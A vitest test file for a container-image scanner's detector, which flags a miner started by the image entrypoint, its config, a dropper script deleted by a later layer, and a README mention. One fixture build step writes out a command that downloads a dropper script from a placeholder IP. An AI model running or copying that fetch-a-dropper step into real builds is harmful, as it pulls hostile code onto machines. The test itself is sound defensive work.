// Tests for image-content: a plain nginx image is clean; a miner the entrypoint starts keeps its
// rule's level, a dropper a later layer deleted is reported one level lower as history only, a miner
// configuration and a README mention are weighed as on a host, all in one finding per image that
// names layer, digest and build step; without an image section, skipped.
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { bundledRulesDir } from '../../engine/yara.js';
import { defaultIocDir, loadRuleset } from '../../iocs/load.js';
import { FindingSchema } from '../../model/finding.js';
import { makeSnapshot } from '../../../test/helpers/snapshot-builders.js';
import {
  CONFIG_MATCH,
  DROPPER_MATCH,
  XMRIG_MATCH,
  imageSnapshot,
  unreadImageSnapshot,
  imageWith,
  nginxImage,
} from '../../../test/helpers/image-snapshot-builders.js';
import { runDetectors } from '../run.js';
import { imageContent } from './image-content.js';

const ruleset = await loadRuleset([defaultIocDir()]);

const minerImage = () =>
  imageWith({
    ref: 'docker.io/evil/webapp:latest',
    config: { entrypoint: ['/usr/local/bin/app'], cmd: ['--config', '/etc/app/config.json'] },
    steps: [
      'ADD file:0a1b2c in / ',
      'COPY app /usr/local/bin/app # buildkit',
      'COPY config.json /etc/app/config.json # buildkit',
      'RUN /bin/sh -c wget -q -O /tmp/dropper.sh http://198.51.100.9/d.sh # buildkit',
      'RUN /bin/sh -c rm -f /tmp/dropper.sh # buildkit',
      'COPY README.md /opt/README.md # buildkit',
    ],
    files: [
      {
        path: '/usr/local/bin/app',
        layer: 1,
        executable: true,
        form: 'elf',
        sha256: 'c'.repeat(64),
        matches: [XMRIG_MATCH],
      },
      { path: '/etc/app/config.json', layer: 2, form: 'text', matches: [CONFIG_MATCH] },
      {
        path: '/tmp/dropper.sh',
        layer: 3,
        form: 'script',
        inFinal: false,
        removedBy: 4,
        matches: [DROPPER_MATCH],
      },
      { path: '/opt/README.md', layer: 5, form: 'text', matches: [XMRIG_MATCH] },
    ],
  });

describe('image-content', () => {
  it('builds its matches from rules the bundled rule files really hold', () => {
    const dir = bundledRulesDir();
    const source = readdirSync(dir)
      .filter((f) => f.endsWith('.yar'))
      .map((f) => readFileSync(path.join(dir, f), 'utf8'))
      .join('\n');
    for (const m of [XMRIG_MATCH, DROPPER_MATCH, CONFIG_MATCH])
      expect(source, m.rule).toMatch(new RegExp(`^rule ${m.rule}\\b`, 'm'));
  });

  it('clean: the nginx image, whose programs match no rule, gives nothing', () => {
    expect(runDetectors(imageSnapshot([nginxImage()]), ruleset, [imageContent])).toEqual({
      findings: [],
      skipped: [],
    });
  });

  it('findings: one finding per image, each file weighed and named by layer, digest and step', () => {
    const img = minerImage();
    const { findings } = runDetectors(imageSnapshot([img]), ruleset, [imageContent]);
    expect(findings).toHaveLength(1);
    const [f] = findings;
    expect(FindingSchema.parse(f)).toEqual(f);
    expect(f).toMatchObject({
      ruleId: 'image-content',
      kind: 'container-image',
      level: 'critical',
      basis: 'autostart',
      messageId: 'started',
      data: {
        image: 'docker.io/evil/webapp:latest',
        digest: img.digest,
        path: '/usr/local/bin/app',
        layer: 1,
        layerDigest: img.layers[1]!.digest,
        carries: 'open-source-miner',
        runsAsRoot: 'yes',
        sha256: 'c'.repeat(64),
      },
      remediate: [],
    });
    expect(f!.message.en).toBe(
      'docker.io/evil/webapp:latest starts /usr/local/bin/app (layer 1), which matches YARA rule miners-cpu.MH_XMRig_Miner',
    );
    expect(f!.evidence).toContainEqual({
      type: 'image',
      image: 'docker.io/evil/webapp:latest',
      digest: img.digest,
      layer: { index: 1, digest: img.layers[1]!.digest },
      createdBy: 'COPY app /usr/local/bin/app # buildkit',
      path: '/usr/local/bin/app',
      inFinal: true,
    });
    const bySignal = new Map(f!.signals.map((s) => [String(s.data?.path), s]));
    expect(bySignal.get('/etc/app/config.json')).toMatchObject({ level: 'high', messageId: 'file' });
    const dropper = bySignal.get('/tmp/dropper.sh');
    // A script in /tmp is a program (high at most); only in history, one level lower.
    expect(dropper).toMatchObject({
      level: 'medium',
      messageId: 'historyOnly',
      data: { inFinal: 'no', removedBy: 4, layer: 3, carries: 'fileless' },
    });
    expect(dropper!.message.en).toContain(
      'present in image history (layer 3), absent from the final filesystem (removed or replaced by layer 4)',
    );
    expect(dropper!.message['zh-CN']).toContain('存在于镜像历史中（第 3 层），不在最终文件系统中');
    expect(f!.evidence).toContainEqual(
      expect.objectContaining({ type: 'image', path: '/tmp/dropper.sh', inFinal: false, removedBy: 4 }),
    );
    // A README that names XMRig is a mention: low, and no kind carried.
    const readme = bySignal.get('/opt/README.md');
    expect(readme).toMatchObject({ level: 'low', messageId: 'fileWeighed' });
    expect(readme!.data).not.toHaveProperty('carries');
  });

  it('findings: past twelve files per image, the rest are counted in one signal', () => {
    const files = Array.from({ length: 15 }, (_, i) => ({
      path: `/opt/m/bin${String(i).padStart(2, '0')}`,
      executable: true,
      form: 'elf' as const,
      matches: [XMRIG_MATCH],
    }));
    const { findings } = runDetectors(imageSnapshot([imageWith({ files })]), ruleset, [imageContent]);
    expect(findings).toHaveLength(1);
    expect(findings[0]!.signals).toHaveLength(13);
    expect(findings[0]!.signals.at(-1)).toMatchObject({ messageId: 'moreFiles', data: { count: 3 } });
  });

  it('skipped: an image target whose archive could not be read; not applicable on a host', () => {
    expect(runDetectors(unreadImageSnapshot(), ruleset, [imageContent])).toEqual({
      findings: [],
      skipped: [{ ruleId: 'image-content', missing: ['image'] }],
    });
    expect(runDetectors(makeSnapshot({}), ruleset, [imageContent])).toEqual({ findings: [], skipped: [] });
  });
});
